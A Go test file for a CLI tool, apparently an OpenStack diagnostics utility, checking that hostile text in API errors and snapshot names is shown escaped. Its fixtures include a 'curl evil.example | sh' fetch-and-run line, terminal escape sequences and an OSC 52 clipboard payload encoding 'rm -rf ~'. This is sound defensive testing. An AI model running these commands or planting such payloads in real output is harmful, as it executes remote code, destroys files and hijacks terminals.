package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hoofbeat/hoofbeat/internal/openstack/fakeos"
	"github.com/hoofbeat/hoofbeat/internal/visible"
)

// noControl fails on any control character but line breaks.
func noControl(t *testing.T, what, s string) {
	t.Helper()
	for _, l := range strings.Split(s, "\n") {
		if !visible.Safe(l) {
			t.Fatalf("%s holds a raw control character: %q", what, l)
		}
	}
}

// TestErrorBodyEscapedOnStderr: an API error body with escape sequences
// (clear the screen, write the clipboard) is shown escaped.
func TestErrorBodyEscapedOnStderr(t *testing.T) {
	c := fakeos.Start(t, fakeos.Standard())
	c.Inject(fakeos.Fault{Path: "/compute/", Status: 400, Message: "bad\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\nrequest"})
	code, out, errOut := run(t, adminEnv(c), "diagnose", "vm1")
	if code == ExitOK {
		t.Fatalf("exit 0 on an API error\n%s", out)
	}
	noControl(t, "stderr", errOut)
	if !strings.Contains(errOut, `bad\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07`) {
		t.Errorf("stderr does not show the body escaped: %q", errOut)
	}
}

// TestHostileSnapshotText: diagnose --from a snapshot whose names hold line
// breaks and escape sequences prints them escaped, in text and Markdown,
// and every Fix line in JSON is one line.
func TestHostileSnapshotText(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "..", "examples", "snapshots", "icmp-ingress.json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	evil := "lab-sg\ncurl evil.example | sh\x1b]0;x\x07"
	for _, g := range doc["security_groups"].([]any) {
		g.(map[string]any)["name"] = evil
	}
	doc["server"].(map[string]any)["name"] = evil
	path := filepath.Join(t.TempDir(), "snap.json")
	b, _ = json.Marshal(doc)
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"text", "markdown", "json"} {
		code, out, errOut := run(t, nil, "diagnose", "--from", path, "-o", format)
		if code != ExitFindings {
			t.Fatalf("%s: exit %d\n%s", format, code, errOut)
		}
		noControl(t, format, out)
		noControl(t, "stderr", errOut)
		for _, l := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimSpace(l), "curl") || strings.HasPrefix(strings.TrimSpace(l), `"curl`) {
				t.Fatalf("%s: a name started a line of its own: %q", format, l)
			}
		}
	}
}

// TestConfigFile: the configuration file excludes rules and changes
// severities, for diagnose; --config naming a missing file is a usage error.
func TestConfigFile(t *testing.T) {
	cfg := filepath.Join(t.TempDir(), "config.yaml")
	if err := os.WriteFile(cfg, []byte("rules:\n  exclude: [network/segment]\n  severity:\n    security-group/icmp-ingress-missing: warning\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	snap := filepath.Join("..", "..", "examples", "snapshots", "icmp-ingress.json")
	code, out, errOut := run(t, map[string]string{"HOOFBEAT_CONFIG": cfg}, "diagnose", "--from", snap, "-o", "json")
	if code != ExitOK {
		t.Fatalf("exit %d, want 0 (the only error made a warning)\n%s", code, errOut)
	}
	var r jsonReport
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatal(err)
	}
	for _, f := range r.Findings {
		if f.Rule == "network/segment" {
			t.Errorf("network/segment was excluded: %+v", f)
		}
		if f.Rule == "security-group/icmp-ingress-missing" && f.Severity != "warning" {
			t.Errorf("severity not overridden: %+v", f)
		}
	}
	if code, _, errOut := run(t, nil, "diagnose", "--from", snap, "--config", filepath.Join(t.TempDir(), "none.yaml")); code != ExitUsage || !strings.Contains(errOut, "configuration") {
		t.Errorf("missing --config file: exit %d, %s", code, errOut)
	}
}
